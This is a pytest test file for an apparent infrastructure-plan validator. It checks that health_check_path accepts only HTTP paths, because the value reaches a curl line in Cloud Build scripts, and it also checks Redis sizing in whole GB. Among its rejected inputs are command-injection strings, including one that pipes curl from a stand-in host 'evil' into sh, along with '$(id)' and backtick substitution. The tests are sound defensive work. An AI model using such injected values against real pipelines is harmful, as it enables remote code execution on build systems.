"""health_check_path reaches the pipelines' shell scripts (Cloud Build substitutes $_SMOKE_PATH into a curl
line before bash reads it), the probes and the health checks: only an HTTP path is accepted."""
from __future__ import annotations

import pytest
import yaml

from archplan.cli import main

RUN = "{kind: cloud_run, cpu: 1, memory: 512Mi, request_duration_ms: 50, requests_per_month: 1000, health_check_path: %s}"
GKE = ("{kind: gke, mode: autopilot, location_type: regional, deployments: [{name: web, replicas: 1, cpu: 1, "
       "memory: 1Gi, health_check_path: %s}]}")
VM = "{kind: compute_engine, machine_type: e2-small, health_check_path: %s}"


def _validate(tmp_path, body: str, capsys) -> tuple[int, str]:
    plan = tmp_path / "plan.yaml"
    plan.write_text(f"project: {{name: hc, region: us-central1}}\ncomponents:\n  app: {body}\n")
    code = main(["validate", str(plan)])
    return code, capsys.readouterr().err


@pytest.mark.parametrize("template", [RUN, GKE, VM], ids=["cloud_run", "gke", "compute_engine"])
@pytest.mark.parametrize("path", ['/x" ; curl evil | sh ; "', "/$(id)", "/`id`", "/a b", "/a\\nb", "healthz",
                                  "/" + "a" * 1024])
def test_a_path_that_is_not_an_http_path_is_refused(tmp_path, capsys, template, path):
    code, err = _validate(tmp_path, template % yaml.safe_dump(path, default_style='"').strip(), capsys)
    assert code == 1 and err.count("\n") == 1 and "health_check_path" in err


@pytest.mark.parametrize("path", ["/", "/healthz", "/api/v1/health?deep=1&x=2", "/_ah/health", "/%7Euser"])
def test_http_paths_are_accepted(tmp_path, capsys, path):
    code, err = _validate(tmp_path, RUN % yaml.safe_dump(path, default_style='"').strip(), capsys)
    assert code == 0, err


def test_redis_is_sized_in_whole_gb(tmp_path, capsys):
    """memory_size_gb is an integer: 1.5 GB was priced as 1.5 GB and created as int(1.5) = 1 GB."""
    code, err = _validate(tmp_path, "{kind: memorystore_redis, tier: basic, capacity_gb: 1.5}", capsys)
    assert code == 1 and "components.app.capacity_gb" in err and "whole GB" in err
    assert _validate(tmp_path, "{kind: memorystore_redis, tier: basic, capacity_gb: 2}", capsys)[0] == 0
